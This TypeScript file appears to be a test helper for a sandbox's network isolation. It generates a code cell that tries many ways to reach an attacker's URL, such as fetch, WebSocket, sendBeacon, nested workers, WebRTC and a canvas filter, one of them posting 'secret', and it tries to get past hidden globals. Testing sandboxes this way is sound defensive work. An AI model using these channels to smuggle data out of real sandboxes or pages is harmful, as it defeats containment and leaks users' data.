/**
 * A cell that tries every way to the network that a worker has, each waited for until it has failed or
 * gone; its value tells a line a way. With `bare` at hand it goes round what hides the ways.
 *
 * @param to the attacker's URL, without a slash at the end
 */
export function waysOut(to: string): string {
  return `await (async () => {
const { ${HIDDEN.join(', ')} } = self.bare ?? self;
const tried = [];
const settled = (target, ...events) => new Promise((resolve, reject) => {
  for (const event of events) target.addEventListener(event, () => event === 'message' ? resolve() : reject(new Error(event)));
});
const attempt = async (name, go) => {
  const late = new Promise((resolve) => setTimeout(resolve, 2000, 'no answer'));
  try { tried.push(name + ': ' + (await Promise.race([go(), late]) === 'no answer' ? 'no answer' : 'went')); }
  catch (error) { tried.push(name + ': ' + error.message); }
};
const inWorker = (url) => { const made = new Worker(url); return settled(made, 'message', 'error').finally(() => made.terminate()); };
const asData = (code) => 'data:text/javascript,' + encodeURIComponent(code);
const asBlob = (code) => URL.createObjectURL(new Blob([code], { type: 'text/javascript' }));
const sendsFrom = (name) => "fetch('${to}/" + name + "').then(() => postMessage(1), () => { throw new Error('refused') });";
await attempt('fetch', () => fetch.call(self, '${to}/fetch'));
await attempt('fetch without CORS', () => fetch.call(self, '${to}/opaque', { mode: 'no-cors', method: 'POST', body: 'secret' }));
await attempt('fetch kept alive', () => fetch.call(self, '${to}/keepalive', { keepalive: true }));
await attempt('xhr', () => { const request = new XMLHttpRequest(); request.open('GET', '${to}/xhr', false); request.send(); });
await attempt('socket', () => settled(new WebSocket('${to.replace('http', 'ws')}/socket'), 'error', 'close'));
await attempt('events', () => { const source = new EventSource('${to}/events'); return settled(source, 'error').finally(() => source.close()); });
await attempt('import', () => (0, eval)("import('${to}/import')"));
await attempt('importScripts', () => importScripts.call(self, '${to}/importScripts'));
await attempt('font', () => new FontFace('x', 'url(${to}/font)').load());
await attempt('worker', () => inWorker('${to}/worker'));
await attempt('nested data worker', () => inWorker(asData(sendsFrom('nestedData'))));
await attempt('nested blob worker', () => inWorker(asBlob(sendsFrom('nestedBlob'))));
await attempt('script of a nested worker', () => inWorker(asData("importScripts('${to}/nestedScript'); postMessage(1)")));
await attempt('wasm', () => WebAssembly.compileStreaming(fetch.call(self, '${to}/wasm')));
await attempt('cache', async () => (await caches.open('x')).add('${to}/cache'));
await attempt('transport', () => new WebTransport('${to.replace('http:', 'https:')}/transport').ready);
await attempt('beacon', () => navigator.sendBeacon('${to}/beacon'));
await attempt('peer', () => new RTCPeerConnection({ iceServers: [{ urls: '${to.replace('http://', 'stun:')}' }] }));
await attempt('canvas filter', () => {
  const context = new OffscreenCanvas(4, 4).getContext('2d');
  context.filter = 'url(${to}/filter#f)';
  context.fillRect(0, 0, 4, 4);
});
await attempt('navigation', () => { location.href = '${to}/navigation'; });
await attempt('window', () => self.clients.openWindow('${to}/window'));
return tried.join('\\n');
})()`;
}

const HIDDEN = ['fetch', 'XMLHttpRequest', 'WebSocket', 'EventSource', 'importScripts', 'Worker'];

/** What the attacker sees of `waysOut` where nothing holds it back, in every browser. */
export const SEEN_WITHOUT_POLICY = [
  '/fetch',
  '/opaque',
  '/keepalive',
  '/xhr',
  '/socket',
  '/events',
  '/import',
  '/importScripts',
  '/font',
  '/nestedData',
  '/nestedBlob',
  '/nestedScript',
  '/wasm',
];

/** Ways that give no answer of their own when nothing went out. */
export const MUTE = /^canvas filter: went$/m;
